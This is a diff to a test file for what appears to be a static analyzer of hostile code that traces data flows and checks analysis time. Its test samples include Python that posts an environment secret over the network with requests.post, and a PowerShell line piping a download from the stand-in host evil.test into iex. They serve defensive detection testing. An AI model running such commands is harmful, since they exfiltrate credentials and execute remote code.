@@ -71,6 +71,19 @@ describe('hostile code ends in time', () => {
     expect(plain.gaps).toEqual([]);
     expect(plain.flows().map((f) => f.host)).toEqual(expect.arrayContaining(['x1.test', 'y2.test']));
   });
+  it('a list put into itself again and again is gone through once', () => {
+    for (const code of [
+      `a = []\n${'a.append(a)\n'.repeat(10_000)}exec(str(a))`,
+      `import os\na = [os.environ["A_KEY"]]\n${'b = [a, a, a, a]\na = [b, b, b, b]\n'.repeat(200)}print(str(a))\n`.repeat(
+        2,
+      ),
+    ])
+      expect(py(code).ms).toBeLessThan(4_000);
+    const result = py(
+      'import os, requests\na = [1]\na.append(a)\na.append([os.environ["A_KEY"]])\nrequests.post(u, data=str(a))',
+    );
+    expect(result.flows().some((f) => f.to === 'network' && f.from.join().includes('env'))).toBe(true);
+  });
   it('a pipeline of thousands of commands costs no square of them', () => {
     const code = `curl https://evil.test${' | sort'.repeat(12_000)} | iex`;
     const result = run({ 'a.ps1': code });
